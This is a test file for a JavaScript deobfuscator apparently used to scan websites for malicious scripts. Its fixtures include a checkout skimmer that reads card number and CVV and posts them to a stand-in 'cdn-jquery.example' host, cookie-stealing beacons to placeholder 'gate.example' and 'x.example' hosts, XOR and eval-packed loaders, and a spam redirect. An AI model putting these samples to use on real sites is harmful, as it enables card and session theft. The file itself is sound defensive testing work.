import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from '@babel/parser';
import JavaScriptObfuscator from 'javascript-obfuscator';
import { deobfuscate } from '../../src/analyze/deobfuscate/index.ts';
import { steps } from '../../src/analyze/deobfuscate/steps/index.ts';
import { obfuscationMarks } from '../../src/analyze/deobfuscate/looks-obfuscated.ts';
import { createSandbox, type Sandbox } from '../../src/analyze/sandbox.ts';
import { inspectSource } from '../../src/analyze/pipeline.ts';

const skimmer = `function send(data) {
  var x = new XMLHttpRequest();
  x.open("POST", "https://cdn-jquery.example/gate");
  x.send(btoa(data));
}
document.querySelector("#checkout").addEventListener("submit", function () {
  var card = document.getElementById("cc_number").value;
  var cvv = document.getElementById("cvv").value;
  if (location.href.indexOf("onepage") > -1) send(card + ":" + cvv);
});
`;
const STRINGS = ['POST', 'https://cdn-jquery.example/gate', '#checkout', 'submit', 'cc_number', 'cvv', 'onepage'];

function reparses(code: string): boolean {
  try {
    parse(code, { sourceType: 'unambiguous', allowReturnOutsideFunction: true });
    return true;
  } catch {
    return false;
  }
}

// javascript-obfuscator options per technique the issue names (a fixed seed keeps the inputs stable)
const presets: [string, Record<string, unknown>][] = [
  ['string array, base64, rotated, wrappers, calls transform', { stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['base64'], stringArrayRotate: true, stringArrayShuffle: true, stringArrayWrappersCount: 2, stringArrayWrappersType: 'function', stringArrayCallsTransform: true, stringArrayCallsTransformThreshold: 1 }],
  ['string array, rc4, chained wrappers', { stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['rc4'], stringArrayWrappersCount: 3, stringArrayWrappersChainedCalls: true, stringArrayWrappersType: 'function' }],
  ['control-flow flattening', { controlFlowFlattening: true, controlFlowFlatteningThreshold: 1, stringArray: true, stringArrayThreshold: 1 }],
  ['dead-code injection', { deadCodeInjection: true, deadCodeInjectionThreshold: 1, stringArray: true, stringArrayThreshold: 1 }],
  ['split strings', { splitStrings: true, splitStringsChunkLength: 3 }],
  ['object keys', { transformObjectKeys: true, stringArray: true, stringArrayThreshold: 1 }],
  ['unicode escapes', { unicodeEscapeSequence: true, stringArray: false }],
  ['self-defending, debug protection, console disabled', { selfDefending: true, debugProtection: true, disableConsoleOutput: true, compact: true }],
];

describe('deobfuscate', () => {
  let sandbox: Sandbox;
  before(async () => {
    sandbox = await createSandbox();
  });

  for (const [name, options] of presets) {
    test(`javascript-obfuscator ${name}: every string recovered, output re-parses, marks found`, () => {
      const obfuscated = JavaScriptObfuscator.obfuscate(skimmer, { seed: 7, target: 'browser', ...options }).getObfuscatedCode();
      assert.ok(obfuscationMarks(obfuscated).length > 0, 'the cheap look flags it');
      const result = deobfuscate(obfuscated, { sandbox });
      assert.equal(result.status, 'ok', result.error);
      assert.ok(reparses(result.code), 'output parses');
      for (const text of STRINGS) assert.ok(result.code.includes(text), `"${text}" recovered:\n${result.code}`);
      if (options['selfDefending']) assert.doesNotMatch(result.code, /\(\(\(\.\+\)\+\)\+\)\+\$|debu|gger/, 'guards removed');
      if (options['controlFlowFlattening']) assert.doesNotMatch(result.code, /switch/, 'dispatchers unflattened');
    });
  }

  test('without a sandbox, decoders that are code are left alone (nothing is run in the host)', () => {
    const obfuscated = JavaScriptObfuscator.obfuscate(skimmer, { seed: 7, stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['rc4'] }).getObfuscatedCode();
    const result = deobfuscate(obfuscated, { sandbox: null });
    assert.ok(!result.code.includes('cc_number'));
    assert.ok(reparses(result.code));
  });

  test('the packer format is unpacked', () => {
    const packed = `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1("2")',3,3,'document|write|hello_packer'.split('|'),0,{}))`;
    assert.ok(obfuscationMarks(packed).includes('packer'));
    const result = deobfuscate(packed, { sandbox });
    assert.deepEqual(result.recognized, ['packer']);
    assert.match(result.code, /document\.write\("hello_packer"\)/);
    assert.equal(result.layers, 1);
  });

  test('eval(atob(...)) inside eval(unescape(...)) comes apart layer by layer', () => {
    const inner = 'document.getElementById("cvv").value;';
    const middle = `eval(atob("${Buffer.from(inner).toString('base64')}"));`;
    const outer = `eval(unescape("${[...middle].map((char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"));`;
    const result = deobfuscate(outer, { sandbox });
    assert.equal(result.code.trim(), inner);
    assert.equal(result.layers, 2);
    assert.deepEqual(result.unsafe, ['unpack-code-strings']);
  });

  test('an XOR loop over a constant array feeding eval is decoded', () => {
    const payload = 'new Image().src = "https://x.example/c?d=" + document.cookie;';
    const key = 23;
    const data = [...payload].map((char) => char.charCodeAt(0) ^ key);
    const code = `var k = ${key}; var d = [${data.join(',')}];
function dec(a, k) { var s = ""; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k); return s; }
eval(dec(d, k));`;
    const result = deobfuscate(code, { sandbox });
    assert.ok(result.code.includes(payload.slice(0, 20)), result.code);
  });

  test('a jjencode-style script that reaches Function through constructors is recognized and recovered', () => {
    const code = '$=~[];$={___:++$,$$$$:(![]+"")[$]};(0)["constructor"]["constructor"]("document.title = \\"jj_payload\\"")();';
    const result = deobfuscate(code, { sandbox });
    assert.ok(result.recognized.includes('jjencode'));
    assert.match(result.code, /document\.title = "jj_payload"/);
  });

  test('a decoder that loops forever or exhausts memory ends with what was recovered, not a hang', () => {
    const code = `function t() { var a = ["x", "y"]; t = function () { return a; }; return t(); }
function d(i) { var a = t(); for (;;) {} return a[i]; }
document.title = d(0);`;
    const result = deobfuscate(code, { sandbox });
    assert.equal(result.status, 'ok');
    assert.match(result.code, /d\(0\)/);
    assert.ok(sandbox.counts.timeout >= 1);
  });

  test('one poisoned index that loops forever does not cost the rest of the string table', () => {
    // An attacker who adds one call the decoder never returns from must not keep every other string hidden.
    const code = `function t() { var a = ["https://gate.example/c", "never", "cc_number"]; t = function () { return a; }; return t(); }
function d(i) { var a = t(); if (i === 1) for (;;) {} return a[i]; }
send(d(0), d(1), d(2));`;
    const timeoutsBefore = sandbox.counts.timeout;
    const result = deobfuscate(code, { sandbox });
    assert.equal(result.status, 'ok');
    assert.match(result.code, /send\("https:\/\/gate\.example\/c", d\(1\), "cc_number"\)/);
    assert.ok(sandbox.counts.timeout > timeoutsBefore);
  });

  test('code strings that depend on Math.random or the date are left as code, and the output is the same every time', () => {
    const code = `var u = 'https://pharma.example/buy/?aff=wpx' + Math.floor(Math.random() * 90 + 10);
document.write('<meta http-equiv="refresh" content="0;url=' + u + '">');
var d = 'v=' + new Date().getTime();
eval('track("' + d + '")');`;
    const first = deobfuscate(code, { sandbox });
    const second = deobfuscate(code, { sandbox });
    assert.equal(first.code, second.code);
    assert.match(first.code, /Math\.random\(\)/);
    assert.match(first.code, /new Date\(\)/);
  });

  test('layers nested beyond the budget stop with over_budget and keep what was unpacked', () => {
    let code = 'document.title = "deep";';
    for (let i = 0; i < 14; i++) code = `eval(${JSON.stringify(code)});`;
    const result = deobfuscate(code, { sandbox });
    assert.equal(result.status, 'over_budget');
    assert.equal(result.layers, 10);
    assert.ok(reparses(result.code));
  });

  test('ordinary code passes unchanged in meaning and is not flagged by the cheap look', () => {
    const plain = 'function add(a, b) { return a + b; }\nconsole.log(add(1, 2), "x" + "y");\n';
    assert.deepEqual(obfuscationMarks(plain), []);
    const result = deobfuscate(plain, { sandbox });
    assert.ok(reparses(result.code));
    assert.match(result.code, /function add\(a, b\)/);
  });

  const evalMarks: [string, boolean][] = [
    ['var c = load(); eval(c);', true],
    ['window.eval(payload)', true],
    ['x=1;self.eval(p)', true],
    ['eval(code)', true],
    // AngularJS evaluates its own expression language through a method of that name
    ['scope.$eval(attrs.compile)', false],
    ['return this.$eval(a)', false],
    ['parser.eval(expr)', false],
    ['myeval(x)', false],
  ];
  for (const [code, marked] of evalMarks) {
    test(`the cheap look ${marked ? 'marks' : 'does not mark'} ${code}`, () => {
      assert.equal(obfuscationMarks(code).includes('eval-of-variable'), marked);
    });
  }

  // [input, the name the jQuery parameter has afterwards (null: nothing renamed)]
  const jQueryWrappers: [string, string | null][] = [
    ['jQuery(function (_0x1a) { _0x1a("#cc").val(); });', '$'],
    ['jQuery(document).ready(function (_0x1a) { _0x1a.post(u, d); });', '$'],
    ['(function (_0x1a, w) { _0x1a("#cc").val(); })(jQuery, window);', '$'],
    ['(function (w, _0x1a) { _0x1a("#cc").val(); })(window, window.jQuery);', '$'],
    ['define(["jquery", "Magento_Checkout/js/model/quote"], function (_0x1a, q) { _0x1a("#cc").val(); });', '$'],
    ['require(["underscore", "jquery"], function (u, _0x1a) { _0x1a("#cc").val(); });', '$'],
    // `$` is read inside already: renaming would change what it means
    ['(function (_0x1a) { _0x1a("#cc").val(); $.post(u); })(jQuery);', null],
    // not jQuery
    ['(function (_0x1a) { _0x1a("#cc"); })(Zepto);', null],
    ['define(["lodash"], function (_0x1a) { _0x1a.map(x); });', null],
    ['jQuery(window).on("load", function (_0x1a) { _0x1a.target; });', null],
  ];
  const restoreStep = steps.filter((step) => step.meta.name === 'restore-jquery-parameter');
  for (const [code, expected] of jQueryWrappers) {
    test(`restore-jquery-parameter: ${code}`, () => {
      const result = deobfuscate(code, { sandbox, steps: restoreStep });
      if (expected) {
        assert.doesNotMatch(result.code, /_0x1a/);
        assert.match(result.code, /\$\("#cc"\)|\$\.post/);
      } else {
        assert.match(result.code, /_0x1a/);
      }
    });
  }

  test('a selector helper written as an arrow is inlined at its calls', () => {
    const code = `function show(_0x9) {
  const holder = document.createElement("div");
  const _0xef = _0x53 => holder.querySelector(_0x53);
  _0xef(".bitb-form").addEventListener("submit", () => send(_0xef(".bitb-pass").value));
}`;
    const result = deobfuscate(code, { sandbox });
    assert.match(result.code, /holder\.querySelector\("\.bitb-pass"\)\.value/);
    assert.doesNotMatch(result.code, /_0xef/);
  });

  // [what it undoes, input, must match afterwards, must not match afterwards]
  const rewrites: [string, string, RegExp, RegExp][] = [
    ['reversed strings', 'function f(W) { var EV = "puyek".split("").reverse().join(""); W.addEventListener(EV, g); }',
      /"keyup"/, /reverse/],
    ['a storage name held in a constant', 'function f(W) { var ST = "localStorage"; var S = W[ST]; S.setItem("k", v); }',
      /W\.localStorage/, /W\[ST\]/],
    ['a key in a variable that changes is left alone', 'function f(W) { var k = "a"; k = "b"; return W[k]; }',
      /W\[k\]/, /W\.a|W\.b/],
    ['a replacement with $ patterns is not folded here', 'function f() { return "ab".replace("a", "$&$&"); }',
      /replace/, /"aab"/],
    ['closure factories left by removed guards', `function helper() {
  var _0x5c = function () { var _0x32 = true; return function (_0x1d, _0x4f) { var _0xed = _0x32 ? function () { if (_0x4f) { var r = _0x4f.apply(_0x1d, arguments); _0x4f = null; return r; } } : function () {}; _0x32 = false; return _0xed; }; }();
  return String.fromCharCode.apply(null, arguments);
}`, /^function helper\(\) \{\s*return String\.fromCharCode\.apply\(null, arguments\);\s*\}$/, /_0x5c/],
    ['object keys moved out of a literal that is the last of several declarations, and of a literal nested in it',
      'function f() { var ns = "x", o = { labels: {} }; o.h = "Lukas"; o.labels.de = "Rechnung"; o.labels.en = "Invoice"; send(o, ns); }',
      /o = \{\s*labels: \{\s*de: "Rechnung",\s*en: "Invoice"\s*\},\s*h: "Lukas"\s*\}/, /o\.h =|o\.labels\.de =/],
    ['an assignment into a nested value that is not a literal stays', 'function f(v) { var o = { a: v }; o.a.b = 1; send(o); }',
      /o\.a\.b = 1/, /a: \{/],
    ['a helper that reads its own arguments is not inlined', 'function f() { var _s = function () { return String.fromCharCode.apply(null, arguments); }; return _s(104, 105); }',
      /_s\(104, 105\)/, /apply\(null, arguments\)\);\s*\}$/],
  ];
  for (const [name, code, present, absent] of rewrites) {
    test(`rewrites: ${name}`, () => {
      const result = deobfuscate(code, { sandbox });
      assert.equal(result.status, 'ok', result.error);
      assert.match(result.code.trim(), present);
      assert.doesNotMatch(result.code, absent);
    });
  }

  test('a UMD bundle whose library says "init", "chain" and "input" is not taken for a guard', () => {
    // The shape of a guard call (this, function () {…}) and the words of debugProtection's probe, in a library.
    const code = `!function (e, t) { typeof exports == "object" ? module.exports = t() : e.Lib = t(); }(this, function () {
  var steps = ["init", "chain", "input"];
  function go(form) { return steps.map(function (s) { return form[s]; }); }
  return { go: go, debugger: "debugger" };
});`;
    const result = deobfuscate(code, { sandbox });
    assert.match(result.code, /steps\.map/);
    assert.match(result.code, /Lib = t\(\)/);
  });

  test('a proxy whose calls were copied by inlining another one is kept until the copies are inlined too', () => {
    // rev's body calls the wrapper _0x2b; inlining rev copies those calls where rev was used.
    const code = `const rev = s => s[_0x2b(1, 2)]('')[_0x2b(3, 4)]();
const SOCK = rev("cba");
function _0x2b(a, b) { return _0x1c(a - b); }
function _0x1c(i) { return ["split", "reverse", "x"][i + 1]; }`;
    const result = deobfuscate(code, { sandbox });
    assert.equal(result.status, 'ok');
    assert.ok(reparses(result.code));
    // Never a call of a function that is no longer defined.
    if (/_0x2b\(/.test(result.code)) assert.match(result.code, /function _0x2b/);
    assert.match(result.code, /SOCK = "cba"\[_0x1c\(-1\)\]/);
  });

  test('a code string built by a top-level XOR loop is computed and unpacked; one that reads the page is not run', () => {
    const payload = 'navigator.sendBeacon("https://gate.example/c", document.cookie);';
    const key = [7, 19, 5];
    const data = [...payload].map((char, i) => char.charCodeAt(0) ^ (key[i % key.length] as number));
    const loop = (extra: string): string => `var k=[${key.join(',')}],d=[${data.join(',')}],s="";
for(var i=0;i<d.length;i++){s+=String.fromCharCode(d[i]^k[i%k.length])${extra};}
eval(s);`;
    const decoded = deobfuscate(loop(''), { sandbox });
    assert.match(decoded.code, /navigator\.sendBeacon\("https:\/\/gate\.example\/c", document\.cookie\)/);
    assert.ok(decoded.layers >= 1);
    // A builder that touches the page (or anything not declared among its statements) is never run.
    for (const extra of ['+document.title.slice(0,0)', ';window.seen=1']) {
      const left = deobfuscate(loop(extra), { sandbox });
      assert.doesNotMatch(left.code, /gate\.example/, extra);
      assert.match(left.code, /eval\(s\)/, extra);
    }
  });

  test('a broken script is reported, not thrown', () => {
    const result = deobfuscate('function (', { sandbox });
    assert.equal(result.status, 'parse_error');
    assert.equal(result.code, 'function (');
  });

  test('a step that throws ends with step_failed and keeps what the steps before it recovered', () => {
    const source = 'var k = "ca" + "rd";\nsend(k);\n';
    const foldFirst = steps.filter((step) => step.meta.name === 'fold-constants');
    const broken = { meta: { name: 'broken', description: 'throws on any call expression', safe: true }, create: () => ({ CallExpression() { throw new Error('unexpected shape'); } }) };
    const result = deobfuscate(source, { sandbox, steps: [...foldFirst, broken] });
    assert.equal(result.status, 'step_failed');
    assert.match(result.error ?? '', /broken failed: unexpected shape/);
    assert.match(result.code, /"card"/, 'the fold before the failure is kept');
    assert.ok(reparses(result.code));
  });

  test('every step has a unique name, a description and a safety tag', () => {
    const names = steps.map((step) => step.meta.name);
    assert.equal(new Set(names).size, names.length);
    for (const step of steps) {
      assert.ok(step.meta.description.length > 10);
      assert.equal(typeof step.meta.safe, 'boolean');
      assert.ok(Boolean(step.create) !== Boolean(step.run), `${step.meta.name} is either a visitor or a run`);
    }
  });

  test('scan-time analysis sees through obfuscation and points evidence at the input', () => {
    const obfuscated = JavaScriptObfuscator.obfuscate(skimmer, { seed: 3, stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['rc4'], controlFlowFlattening: true, controlFlowFlatteningThreshold: 1 }).getObfuscatedCode();
    const plain = inspectSource(obfuscated);
    const seen = inspectSource(obfuscated, undefined, { sandbox });
    assert.ok(seen.deobfuscation?.recognized.includes('javascript-obfuscator'));
    const flows = seen.evidence.filter((item) => item.kind === 'flow');
    assert.ok(flows.some((item) => item.message.includes('cc_number')), JSON.stringify(seen.evidence));
    assert.ok(!plain.evidence.some((item) => item.message.includes('cc_number')), 'without deobfuscation the flow is hidden');
    const lines = obfuscated.split('\n').length;
    for (const item of flows) {
      assert.ok(item.line >= 1 && item.line <= lines, `line ${item.line} is in the input`);
      assert.match(item.snippet ?? '', /of deobfuscated code/);
    }
  });
});
